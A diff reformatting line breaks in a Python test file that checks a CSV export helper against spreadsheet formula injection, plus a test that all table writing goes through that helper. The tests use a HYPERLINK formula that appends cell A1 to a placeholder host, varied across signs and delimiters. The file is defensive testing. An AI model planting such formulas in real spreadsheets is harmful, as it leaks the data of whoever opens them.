@@ -24,13 +24,22 @@ SIGNS = "=+-@＝＋－＠"
 
 def cells_of(text, delimiter):
     """The cells that a spreadsheet sees where this is what separates them."""
-    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row]
+    return [
+        c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row
+    ]
 
 
 @pytest.mark.parametrize("sign", SIGNS)
 def test_no_cell_is_a_formula_in_any_country(sign):
     formula = f'{sign}HYPERLINK("http://x.example/?"&A1,"more")'
-    told = [formula, f" {formula}", f"\t{formula}", f"rent;{formula}", f"rent\r\n{formula}", f"'{formula}"]
+    told = [
+        formula,
+        f" {formula}",
+        f"\t{formula}",
+        f"rent;{formula}",
+        f"rent\r\n{formula}",
+        f"'{formula}",
+    ]
     text = csv_text(["what", formula], [(cell, 1) for cell in told])
     for delimiter in ",;\t":
         for cell in cells_of(text, delimiter):
@@ -83,7 +92,16 @@ def test_judgments_with_formulas_come_back_as_they_were(workspace):
 
 def test_there_is_no_other_way_to_write_a_table():
     """Whoever writes one goes through `csv_text`; tables for programs are listed above."""
-    ways = {"writer", "DictWriter", "to_csv", "to_excel", "to_clipboard", "Workbook", "ExcelWriter", "save_workbook"}
+    ways = {
+        "writer",
+        "DictWriter",
+        "to_csv",
+        "to_excel",
+        "to_clipboard",
+        "Workbook",
+        "ExcelWriter",
+        "save_workbook",
+    }
     found = {}
     for top in ("search", "training", "indexes", "ui", "terminal", "app.py", "cli.py"):
         path = REPOSITORY / top
@@ -94,7 +112,12 @@ def test_there_is_no_other_way_to_write_a_table():
                 table = isinstance(node, ast.Constant) and isinstance(node.value, str)
                 if attribute:
                     found.setdefault(name, []).append(ast.unparse(node))
-                elif table and "\t" in node.value and node.value.endswith("\n") and len(node.value) > 2:
+                elif (
+                    table
+                    and "\t" in node.value
+                    and node.value.endswith("\n")
+                    and len(node.value) > 2
+                ):
                     found.setdefault(name, []).append(node.value)
     assert found.pop("search/text/spreadsheet_cells.py") == ["csv.writer"]
     assert {n: w for n, w in found.items() if w != [FOR_PROGRAMS.get(n)]} == {}
